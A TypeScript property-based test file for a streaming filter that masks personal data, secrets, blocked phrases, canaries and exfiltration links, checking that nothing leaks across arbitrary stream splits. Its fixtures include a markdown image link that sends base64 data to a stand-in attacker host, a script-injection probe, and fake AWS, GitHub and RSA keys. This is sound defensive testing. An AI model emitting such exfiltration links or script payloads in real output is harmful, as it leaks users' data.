import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { DetectorSpec } from '../detector/detector.js';
import { egressDetectors } from '../detector/egress/egress-catalogue.js';
import { piiDetectors } from '../detector/pii/pii-catalogue.js';
import { secretDetectors } from '../detector/secret/secret-catalogue.js';
import type { FilterPlan } from './filter-plan.js';
import { cut, filterAll, LINK, PHRASE, planOf, rule, SAMPLES, type Filtered } from './sample-plan.fixture.js';
import { Scanner } from './scanner.js';
import { StreamFilter, type RequestSecrets } from './stream-filter.js';

const SPLITS = 10_000;
const secrets = (more: Partial<RequestSecrets>): RequestSecrets => ({
  restore: [],
  canaries: [],
  pseudonyms: undefined,
  json: false,
  ...more,
});

interface Family {
  readonly plan: FilterPlan;
  /** What must not come out. */
  readonly values: readonly string[];
  readonly request?: RequestSecrets;
  readonly around?: (value: string) => string;
}

const BASE64 = 'MIIEowIBAAKCAQEA75+/zQ';
const FAMILIES: Readonly<Record<string, Family>> = {
  'personal data': {
    plan: planOf(piiDetectors, { '': rule('mask') }),
    values: [
      '4111 1111 1111 1111',
      '5555\n5555\n5555\n4444',
      '5500-0055-5555-5559',
      'ada.lovelace+x@example.co.uk',
      'DE89 3704 0044 0532 0130 00',
    ],
  },
  secrets: {
    plan: planOf(secretDetectors),
    values: [
      `AKIA${'Z7Q2WX4RTY6UPL9K'}`,
      `ghp_${'a1B2c3D4e5F6a1B2c3D4e5F6a1B2c3D4e5F6'}`,
      `-----BEGIN RSA PRIVATE KEY-----\n${`${BASE64}\n`.repeat(3)}-----END RSA PRIVATE KEY-----`,
    ],
  },
  phrases: {
    plan: planOf([PHRASE], { phrase: rule('block') }),
    values: ['project nightfall', 'PROJECT \n\tNightfall'],
  },
  links: {
    plan: planOf(egressDetectors),
    values: ['![logo](https://evil.example/p.png?q=c2VjcmV0)', '<script>alert(1)</script>'],
  },
  'folded values': {
    plan: planOf(SAMPLES, { phrase: rule('replace', { replacement: '***' }) }),
    values: ['４１１１\u200b 1111 𝟏𝟏𝟏𝟏 1\u00ad111', 'ａda@еx\u2060ample.com', 'рrоject\u00a0night\ufe0ffall'],
  },
  'restored pseudonyms': {
    plan: planOf(SAMPLES),
    values: ['5500 0055 5555 5559', 'kim.doe@example.net'],
    request: secrets({
      restore: [
        { pseudonym: '5500 0055 5555 5559', original: 'A' },
        { pseudonym: 'kim.doe@example.net', original: 'B' },
      ],
    }),
  },
  canaries: {
    plan: planOf([LINK]),
    values: ['7f3a9c0d12be45f8', '7F3A\u200b9C0D12BE45ｆ８'],
    request: secrets({ canaries: ['7f3a9c0d12be45f8'] }),
  },
  'escaped JSON': {
    plan: planOf(SAMPLES),
    values: ['\\u0034111 1111 1111 11\\u00311', 'ada@ex\\u0061mple.com'],
    request: secrets({ json: true }),
    around: (value) => `{"a":"${value}"}`,
  },
};

function leaks({ releases, text }: Filtered, value: string): boolean {
  const half = value.slice(0, Math.ceil(value.length / 2));
  return releases.join('').includes(half) || text.includes(half);
}

describe('a value', () => {
  it.each(Object.entries(FAMILIES))(
    'never leaves, however the text is cut: %s',
    (_name, { plan, values, request, around }) => {
      const frame = around ?? ((value: string) => `So: ${value}. And on.`);
      const wholes = values.map((value) => filterAll(plan, [frame(value)], request));
      const place = fc.nat({ max: 300 });
      fc.assert(
        fc.property(fc.nat({ max: values.length - 1 }), fc.array(place, { maxLength: 6 }), (index, places) => {
          const value = values[index]!;
          const outcome = filterAll(plan, cut(frame(value), places), request);
          if (leaks(outcome, value) || outcome.text !== wholes[index]!.text) expect(outcome.text).toBe('nothing of it');
        }),
        { numRuns: SPLITS },
      );
      values.forEach((value, index) => {
        const single = filterAll(plan, frame(value).split(''), request);
        expect(leaks(single, value)).toBe(false);
        expect(single.text).toBe(wholes[index]!.text);
        expect(single.findings).toEqual(wholes[index]!.findings);
        if (!request?.restore.length) expect(single.findings.length).toBeGreaterThan(0);
        expect(single.mostHeldBack).toBeLessThanOrEqual(Math.max(plan.maxHoldback, 2 * value.length));
      });
    },
  );
});

/** Texts that are made of parts of values, and of what is easily cut wrong. */
const scraps = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '4111 1111 1111 1111',
        'a@b.co',
        '@',
        'sk-abcd1234',
        'sk-',
        '-----BEGIN KEY-----',
        'project ',
        'nightfall',
      ),
      fc.constantFrom(
        '4111',
        ' 1111',
        '-1',
        '![a](b',
        ')',
        '\u200b',
        '\u200d',
        '\ufe0f',
        '𝟏𝟏',
        '\ud835',
        '\udfcf',
        '💣',
        'é',
        'а',
      ),
      fc.constantFrom('\\', '\\u00', '\\u0034', '\\"', '"', '\n', 'kim', 'kim@x.yz', 'c0ffee', 'C0\u00adFFEE'),
      fc.string({ maxLength: 3 }),
    ),
    { maxLength: 9 },
  )
  .chain((parts) => fc.constantFrom('', '', ' ', '-').map((glue) => parts.join(glue)));

describe('any text', () => {
  const plans = [
    planOf(SAMPLES),
    planOf(SAMPLES, { phrase: rule('block'), email: rule('flag'), card: rule('replace', { replacement: '#' }) }),
    { ...planOf(SAMPLES), scanner: Scanner.compile(SAMPLES, 1) },
  ];
  const requests = fc
    .record({ json: fc.boolean(), restores: fc.boolean(), canary: fc.boolean() })
    .map(({ json, restores, canary }) =>
      secrets({
        json,
        restore: restores
          ? [
              { pseudonym: 'kim', original: 'Q' },
              { pseudonym: 'kim@x.yz', original: 'R' },
            ]
          : [],
        canaries: canary ? ['c0ffee'] : [],
      }),
    );

  it('gives the same text and the same findings for any cut', () => {
    fc.assert(
      fc.property(
        scraps,
        fc.array(fc.nat(), { maxLength: 8 }),
        fc.nat({ max: 2 }),
        requests,
        (text, places, which, request) => {
          const plan = plans[which]!;
          const { releases: _whole, mostHeldBack: _most, ...whole } = filterAll(plan, [text], request);
          for (const pieces of [cut(text, places), text.split('')]) {
            const { releases, mostHeldBack, ...outcome } = filterAll(plan, pieces, request);
            expect(outcome).toEqual(whole);
            expect(mostHeldBack).toBeLessThanOrEqual(plan.maxHoldback);
            expect(whole.text.startsWith(releases.join(''))).toBe(true);
          }
        },
      ),
      { numRuns: 2_000 },
    );
  });

  it('finds the same in several choices at once, whatever the table of the automaton holds', () => {
    const cramped = plans[2]!;
    fc.assert(
      fc.property(
        fc.array(scraps, { minLength: 2, maxLength: 4 }),
        fc.array(fc.nat({ max: 3 }), { maxLength: 60 }),
        (texts, turns) => {
          const filters = texts.map(() => new StreamFilter(cramped));
          const released = texts.map(() => '');
          const read = texts.map(() => 0);
          for (const turn of [...turns, ...turns]) {
            const choice = turn % texts.length;
            released[choice] += filters[choice]!.push(texts[choice]!.charAt(read[choice]!++));
          }
          texts.forEach((text, choice) => {
            released[choice] += filters[choice]!.push(text.slice(read[choice])) + filters[choice]!.end();
            expect(released[choice]).toBe(filterAll(plans[0]!, [text]).text);
          });
        },
      ),
      { numRuns: 300 },
    );
  });

  it('is found by all detectors together as by each alone', () => {
    const found = (specs: readonly DetectorSpec[], text: string) => filterAll(planOf(specs), [text]).findings;
    const alone = SAMPLES.map((spec) => planOf([spec]));
    const together = planOf(SAMPLES);
    fc.assert(
      fc.property(scraps, (text) => {
        const apart = alone.flatMap((plan) => filterAll(plan, [text]).findings);
        expect([...filterAll(together, [text]).findings].sort()).toEqual([...apart].sort());
      }),
      { numRuns: 1_000 },
    );
    expect(found([LINK], '![](x)')).toHaveLength(1);
  });
});
